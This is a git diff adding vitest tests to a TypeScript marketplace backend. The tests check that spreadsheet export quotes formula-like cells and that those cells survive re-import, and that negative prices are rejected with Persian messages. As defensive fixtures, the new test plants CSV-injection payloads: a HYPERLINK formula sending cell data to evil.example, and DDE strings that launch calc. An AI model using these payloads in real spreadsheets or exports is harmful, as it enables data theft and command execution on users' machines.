@@ -1,4 +1,5 @@
 import type { CategoryProperty } from '@bazaar/contracts/catalog';
+import { parse } from 'csv-parse/sync';
 import { and, asc, eq, sql } from 'drizzle-orm';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { signIn } from '../../../test/sessions.js';
@@ -196,6 +197,73 @@ describe('spreadsheet export and import', () => {
     expect(report.errors).toEqual([]);
     expect(report).toMatchObject({ applied: true, creates: 0, updates: ids.length });
     expect(await Promise.all(ids.map(editable))).toEqual(before);
+  });
+
+  it('quotes every cell a spreadsheet would run as a formula and reads it back exactly', async () => {
+    // What an agent could plant in the owner's next export: formulas in every text column, and text that
+    // really begins with a quote (which must survive the quote the import takes off).
+    const planted = [
+      {
+        title: '=HYPERLINK("https://evil.example/?d="&A2,"مشاهدهٔ قیمت")',
+        model: '-2+3+cmd|calc',
+        salesUnit: '+دستگاه',
+        description: "@SUM(1+1)*cmd|' /C calc'!A0",
+      },
+      { title: "'پمپ در گیومه", model: "'CDL", salesUnit: "''عدد", description: "'=نوشته، نه فرمول" },
+      { title: '-5', model: null, salesUnit: 'عدد', description: '-12.5' },
+    ];
+    const ids: number[] = [];
+    for (const fields of planted) {
+      const created = await call(owner, 'POST', '/supplierproducts', {
+        merchantId,
+        categoryId: pumpCategory,
+        priceRials: 1_000_000,
+        ...fields,
+      });
+      expect(created.statusCode, created.body).toBe(201);
+      ids.push(created.json().id);
+    }
+    const csv = (await exportCsv()).body;
+    const rows = parse(csv, { bom: true, columns: true }) as Record<string, string>[];
+    const row = (id: number | undefined) => rows.find((r) => r.id === String(id));
+    expect(row(ids[0])).toMatchObject({
+      title: `'${planted[0]?.title}`,
+      model: `'${planted[0]?.model}`,
+      sales_unit: `'${planted[0]?.salesUnit}`,
+      description: `'${planted[0]?.description}`,
+    });
+    expect(row(ids[1])).toMatchObject({
+      title: "''پمپ در گیومه",
+      model: "''CDL",
+      sales_unit: "'''عدد",
+      description: "''=نوشته، نه فرمول",
+    });
+    // A plain number is a number to a spreadsheet, never a formula: it stays as it is.
+    expect(row(ids[2])).toMatchObject({ title: '-5', description: '-12.5' });
+    const formulas = rows.flatMap((r) =>
+      Object.values(r).filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell)),
+    );
+    expect(formulas).toEqual([]);
+
+    const before = await Promise.all(ids.map(editable));
+    const report = (await importCsv(csv, true)).json();
+    expect(report.errors).toEqual([]);
+    expect(await Promise.all(ids.map(editable))).toEqual(before);
+    expect(before.map((p) => p.title)).toEqual(planted.map((p) => p.title));
+  });
+
+  it('reads a negative number in a numeric column, quoted or not, and refuses it as a price', async () => {
+    const csv = [
+      'title,category_id,price_rials,sales_unit',
+      `پمپ با قیمت منفی,${pumpCategory},-5,دستگاه`,
+      `پمپ با قیمت منفی در گیومه,${pumpCategory},'-5,دستگاه`,
+    ].join('\n');
+    const report = (await importCsv(csv, true)).json();
+    expect(report.applied).toBe(false);
+    expect(report.errors).toEqual([
+      { row: 2, column: 'قیمت (ریال)', message: 'قیمت «-5» پذیرفته نیست؛ عددی صحیح و مثبت به ریال بنویسید.' },
+      { row: 3, column: 'قیمت (ریال)', message: 'قیمت «-5» پذیرفته نیست؛ عددی صحیح و مثبت به ریال بنویسید.' },
+    ]);
   });
 
   it('reports each bad row with its line, column and a Persian message, and applies nothing', async () => {
